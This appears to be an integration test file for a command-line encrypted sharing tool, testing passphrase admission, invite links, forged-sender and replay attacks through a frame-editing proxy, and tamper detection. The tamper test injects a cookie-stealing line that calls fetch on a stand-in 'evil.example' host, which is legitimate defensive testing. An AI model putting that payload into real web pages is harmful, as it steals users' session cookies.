// Format v3 between command-line clients, against the real release server: admission by
// passphrase both ways (a member admits, the admitted member admits the next), waiting with
// no member online, an invite link, rejoining a restarted server with no member online, and
// what a misbehaving server can try between them (a forged `from`, a replayed item), through
// a proxy that edits the WebSocket frames the server sends. Also `verify` against the real
// server and a tampered copy, and input checks that come before any network.

import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { REPO, freePort, startServer, tempDir, waitFor } from '../deploy/lib.mjs';
import { cli, cliRun, cliSays, frameProxy, newStore } from './lib.mjs';

const owned = [];
let server;
const tag = Date.now().toString(36);

before(async () => {
  server = await startServer({ env: { LOG_LEVEL: 'warn' } });
  owned.push(server.proc);
});

after(async () => {
  for (const p of owned) await p.stop('SIGKILL');
});

/** Waits until the CLI has printed `text` as a line of its stdout. */
const printed = (c, text) => waitFor(`"${text}" on stdout`, () => c.out().split('\n').includes(text));

describe('admission by passphrase', () => {
  test('a member admits a device that knows the passphrase, which then admits the next; text and files go both ways', { timeout: 240000 }, async () => {
    const session = `admit-${tag}`;
    const opts = (name, store, extra = {}) => ({ server: server.base, session, name, store, ...extra });
    const [storeA, storeB] = [newStore(), newStore()];
    const [inboxA, inboxB] = ['a', 'b'].map((n) => tempDir(`sharethings-cli-inbox-${n}-`));
    const [fileA, fileB] = ['a', 'b'].map((n) => {
      const f = { path: path.join(tempDir(), `from-${n}.bin`), bytes: randomBytes(300 * 1024 + 7) };
      fs.writeFileSync(f.path, f.bytes);
      return f;
    });
    const alpha = cli(['receive', '--create', '--dir', inboxA], opts('Alpha', storeA));
    await cliSays(alpha, /receiving in session/);
    const beta = await cliRun(['send', '--text', 'from Beta'], opts('Beta', storeB));
    assert.equal(beta.code, 0, beta.describe());
    assert.match(beta.err, /admitted by a member/);
    await printed(alpha, 'from Beta');
    await cliSays(alpha, /admitted a new device: Beta/);
    await cliSays(alpha, /text from Beta/);
    // Admitted once, Beta sends from its key store, without the passphrase.
    const betaFile = await cliRun(['send', fileB.path], opts('Beta', storeB, { passphrase: null }));
    assert.equal(betaFile.code, 0, betaFile.describe());
    await cliSays(alpha, /saved .*from-b\.bin from Beta/);
    assert.deepEqual(fs.readFileSync(path.join(inboxA, 'from-b.bin')), fileB.bytes);
    assert.equal(await alpha.stop(), 0, alpha.describe());

    // Beta now holds the room secret and the passphrase's key: with Alpha gone, it lets
    // Gamma in. Beta itself needs no passphrase any more, nor does Alpha to send to it.
    const beta2 = cli(['receive', '--dir', inboxB], opts('Beta', storeB, { passphrase: null }));
    try {
      await cliSays(beta2, /receiving in session/);
      assert.match(beta2.err(), /room key in this machine's key store/);
      // One run of a device at a time: a second would reuse its message counter.
      const twice = await cliRun(['send', '--text', 'x'], opts('Beta', storeB, { passphrase: null }));
      assert.equal(twice.code, 1, twice.describe());
      assert.match(twice.err, /another run of sharethings-cli on this machine is in this session/);
      for (const what of [['--text', 'from Alpha'], [fileA.path]]) {
        const sent = await cliRun(['send', ...what], opts('Alpha', storeA, { passphrase: null }));
        assert.equal(sent.code, 0, sent.describe());
      }
      await printed(beta2, 'from Alpha');
      await cliSays(beta2, /saved .*from-a\.bin from Alpha/);
      assert.deepEqual(fs.readFileSync(path.join(inboxB, 'from-a.bin')), fileA.bytes);

      // Wrong passphrases: the applicant learns it from the member's check (exit 3), the
      // member announces each and counts them, and nothing of the applicant's reaches
      // anyone. Past three failures the member makes the next applicant wait (1 s).
      for (let i = 1; i <= 3; i += 1) {
        const wrong = await cliRun(['send', '--text', 'from Mallory'], opts('Mallory', newStore(), { passphrase: 'a-wrong-guess-of-the-words' }));
        assert.equal(wrong.code, 3, wrong.describe());
        await waitFor(`failure ${i} to be announced`, () =>
          (beta2.err().match(/a device tried to join with a wrong passphrase/g) ?? []).length >= i);
      }
      const gamma = await cliRun(['send', '--text', 'from Gamma'], opts('Gamma', newStore()));
      assert.equal(gamma.code, 0, gamma.describe());
      assert.match(gamma.err, /the member asks to wait 1 s \(recent wrong passphrases\)/);
      assert.match(beta2.err(), /recent wrong passphrases make it wait 1 s/);
      await printed(beta2, 'from Gamma');
      await cliSays(beta2, /text from Gamma/);
      assert.ok(!beta2.out().includes('Mallory'));
    } finally {
      await beta2.stop();
    }
  });

  test('with no member online the applicant says so, waits, and is admitted when one comes', { timeout: 180000 }, async () => {
    const session = `wait-${tag}`;
    const storeA = newStore();
    const opts = (name, store, extra = {}) => ({ server: server.base, session, name, store, ...extra });
    const made = await cliRun(['members', '--create', '--wait', '0'], opts('Alpha', storeA));
    assert.equal(made.code, 0, made.describe());
    const delta = cli(['send', '--text', 'worth the wait'], opts('Delta', newStore()));
    await cliSays(delta, /no member of this session is online: open ShareThings on a device that is already in this session/);
    const alpha = cli(['receive', '--once'], opts('Alpha', storeA, { passphrase: null }));
    assert.equal(await delta.exited, 0, delta.describe());
    assert.equal(await alpha.exited, 0, alpha.describe());
    assert.equal(alpha.out(), 'worth the wait\n');
    assert.match(alpha.err(), /text from Delta/);
  });

  test('an invite link joins without the passphrase and without being admitted', { timeout: 120000 }, async () => {
    const session = `invite-${tag}`;
    const storeA = newStore();
    const alpha = cli(['receive', '--create'], { server: server.base, session, name: 'Alpha', store: storeA });
    try {
      await cliSays(alpha, /receiving in session/);
      const link = await cliRun(['invite'], { server: server.base, session, store: storeA, passphrase: null });
      assert.equal(link.code, 0, link.describe());
      assert.match(link.out, /#s=invite-[a-z0-9]+&k=[A-Za-z0-9_-]{128}\n$/, 'the key is in the fragment, prs included');
      const epsilon = await cliRun(['--invite', '-', 'send', '--text', 'by invitation'], {
        name: 'Epsilon', passphrase: null, input: link.out, server: undefined, session: undefined,
      });
      assert.equal(epsilon.code, 0, epsilon.describe());
      assert.doesNotMatch(epsilon.err, /admitted by a member/);
      await printed(alpha, 'by invitation');
      await cliSays(alpha, /text from Epsilon/);
      assert.doesNotMatch(alpha.err(), /asks to join/);
    } finally {
      await alpha.stop();
    }
  });
});

test('members rejoin a restarted server with no member online and no passphrase', { timeout: 180000 }, async () => {
  const port = await freePort();
  let own = await startServer({ port, env: { LOG_LEVEL: 'warn' } });
  const session = `restart-${tag}`;
  const [storeA, storeB] = [newStore(), newStore()];
  const opts = (name, store, extra = {}) => ({ server: own.base, session, name, store, ...extra });
  try {
    const made = await cliRun(['members', '--create', '--wait', '0'], opts('Alpha', storeA));
    assert.equal(made.code, 0, made.describe());
    const alpha = cli(['receive'], opts('Alpha', storeA, { passphrase: null }));
    await cliSays(alpha, /receiving in session/);
    const beta = await cliRun(['members', '--wait', '5'], opts('Beta', storeB));
    assert.equal(beta.code, 0, beta.describe());
    assert.match(beta.out, /Alpha \(creator\)/);
    await alpha.stop();

    await own.proc.stop('SIGKILL');
    own = await startServer({ port, env: { LOG_LEVEL: 'warn' } });
    // Nothing of the session survived the restart; Beta brings it back from its key store.
    const receiver = cli(['receive', '--once'], opts('Beta', storeB, { passphrase: null }));
    await cliSays(receiver, /receiving in session/);
    const sent = await cliRun(['send', '--text', 'after the restart'], opts('Alpha', storeA, { passphrase: null }));
    assert.equal(sent.code, 0, sent.describe());
    assert.equal(await receiver.exited, 0, receiver.describe());
    assert.equal(receiver.out(), 'after the restart\n');
    assert.match(receiver.err(), /text from Alpha/);
  } finally {
    await own.proc.stop('SIGKILL');
  }
});

describe('a misbehaving server', () => {
  test('a forged `from` neither renames a sender nor binds a hello', { timeout: 180000 }, async () => {
    const session = `forged-${tag}`;
    const opts = (name, store, extra = {}) => ({ server: server.base, session, name, store, ...extra });
    let forgeAs = null;
    const joined = [];
    const proxy = await frameProxy(server.port, {
      onText(text) {
        const m = /^42\["client-joined",\{[^}]*"clientId":"([^"]+)"/.exec(text);
        if (m) joined.push(m[1]);
        if (forgeAs && /^451-\["content"/.test(text)) return text.replace(/"from":"[^"]+"/, `"from":"${forgeAs}"`);
        return text;
      },
    });
    const storeB = newStore();
    const alpha = cli(['receive', '--create'], { ...opts('Alpha', newStore()), server: proxy.url });
    const others = [];
    try {
      await cliSays(alpha, /receiving in session/);
      others.push(cli(['receive'], opts('Beta', storeB)));
      await cliSays(alpha, /admitted a new device: Beta/);
      await waitFor('Beta to join', () => joined.length >= 1);
      others.push(cli(['receive'], opts('Gamma', newStore())));
      await cliSays(alpha, /admitted a new device: Gamma/);
      await waitFor('Gamma to join', () => joined.length >= 2);
      // One run per device at a time: Beta's receiver makes way for Beta's sender.
      await others[0].stop();
      // From now on the server says every content comes from Gamma's connection.
      forgeAs = joined[1];
      const sent = await cliRun(['send', '--text', 'signed by Beta'], opts('Beta', storeB, { passphrase: null }));
      assert.equal(sent.code, 0, sent.describe());
      await printed(alpha, 'signed by Beta');
      await cliSays(alpha, /text from Beta/);
      assert.doesNotMatch(alpha.err(), /text from Gamma/);
      assert.match(alpha.err(), /ignored a message: a hello for another connection or device/);
    } finally {
      for (const c of [alpha, ...others]) await c.stop();
      await proxy.close();
    }
  });

  test('a replayed item is dropped, also by the receiver after a restart', { timeout: 180000 }, async () => {
    const session = `replay-${tag}`;
    const storeA = newStore();
    const opts = (name, store, extra = {}) => ({ server: server.base, session, name, store, ...extra });
    // Alpha's key store is kept per server origin: Alpha always goes through the proxy's port.
    const via = { port: await freePort() };
    let proxy = await frameProxy(server.port, via);
    const made = await cliRun(['members', '--create', '--wait', '0'], { ...opts('Alpha', storeA), server: proxy.url });
    assert.equal(made.code, 0, made.describe());
    let alpha = cli(['receive'], { ...opts('Alpha', storeA, { passphrase: null }), server: proxy.url });
    try {
      await cliSays(alpha, /receiving in session/);
      const sent = await cliRun(['send', '--text', 'only once'], opts('Beta', newStore()));
      assert.equal(sent.code, 0, sent.describe());
      await printed(alpha, 'only once');
      const recorded = proxy.events().filter((e) => /^45\d+-\["(content|chunk)"/.test(e.text));
      assert.ok(recorded.length >= 3, `hello, roster, the item and its chunk: ${recorded.length}`);
      const drops = () => (alpha.err().match(/ignored a message: replayed/g) ?? []).length;
      for (const e of recorded) proxy.inject(e);
      await waitFor('the replays to be dropped', () => drops() >= recorded.filter((e) => /"content"/.test(e.text)).length);
      assert.equal(alpha.out(), 'only once\n');
      await alpha.stop();
      await proxy.close();

      // The replay windows are in the key store: a new run of Alpha drops them too.
      proxy = await frameProxy(server.port, via);
      alpha = cli(['receive'], { ...opts('Alpha', storeA, { passphrase: null }), server: proxy.url });
      await cliSays(alpha, /receiving in session/);
      for (const e of recorded) proxy.inject(e);
      await waitFor('the replays to be dropped after a restart', () => /ignored a message: replayed/.test(alpha.err()));
      assert.equal(alpha.out(), '');
    } finally {
      await alpha.stop();
      await proxy.close();
    }
  });
});

describe('verify', () => {
  test('the release server serves this release’s web app (exit 0)', async () => {
    const r = await cliRun(['verify', `${server.base}/`], { passphrase: null });
    assert.equal(r.code, 0, r.describe());
    assert.match(r.out, /^bundle [0-9a-f]{64}\nall \d+ files of the web app match/);
  });

  test('a tampered copy is found out, file by file (exit 10); an unreachable one is 4', async () => {
    const assets = path.join(REPO, 'assets');
    const js = fs.readdirSync(path.join(assets, 'assets')).find((n) => n.endsWith('.js'));
    // Passes every request on to the real server, but serves one script with a line added.
    const tampered = http.createServer((req, res) => {
      if (req.url === `/assets/${js}`) {
        const body = Buffer.concat([fs.readFileSync(path.join(assets, 'assets', js)), Buffer.from(';fetch("https://evil.example/"+document.cookie)')]);
        res.writeHead(200, { 'content-length': body.length }).end(body);
        return;
      }
      const headers = { 'accept-encoding': req.headers['accept-encoding'] ?? 'identity' };
      http.get({ host: '127.0.0.1', port: server.port, path: req.url, headers }, (up) => {
        const parts = [];
        up.on('data', (c) => parts.push(c));
        up.on('end', () => {
          const body = Buffer.concat(parts);
          const encoding = up.headers['content-encoding'] ? { 'content-encoding': up.headers['content-encoding'] } : {};
          res.writeHead(up.statusCode, { 'content-length': body.length, ...encoding }).end(body);
        });
      }).on('error', () => res.destroy());
    });
    await new Promise((resolve) => tampered.listen(0, '127.0.0.1', resolve));
    try {
      const r = await cliRun(['verify', `http://127.0.0.1:${tampered.address().port}/`], { passphrase: null });
      assert.equal(r.code, 10, r.describe());
      assert.match(r.out, new RegExp(`MISMATCH assets/${js.replace('.', '\\.')}: differs`));
      assert.equal((r.out.match(/^MISMATCH /gm) ?? []).length, 2, 'only that file differs (plain and as gzip)');
    } finally {
      tampered.close();
    }
    const gone = await cliRun(['verify', `http://127.0.0.1:${await freePort()}/`], { passphrase: null });
    assert.equal(gone.code, 4, gone.describe());
  });
});

test('a file that does not exist is a usage error before any network (or any passphrase check)', async () => {
  const r = await cliRun(['send', '/no/such/file'], { server: `http://127.0.0.1:${await freePort()}`, session: 's', passphrase: 'a wrong one' });
  assert.equal(r.code, 2, r.describe());
  assert.match(r.err, /\/no\/such\/file: the file does not exist/);
});
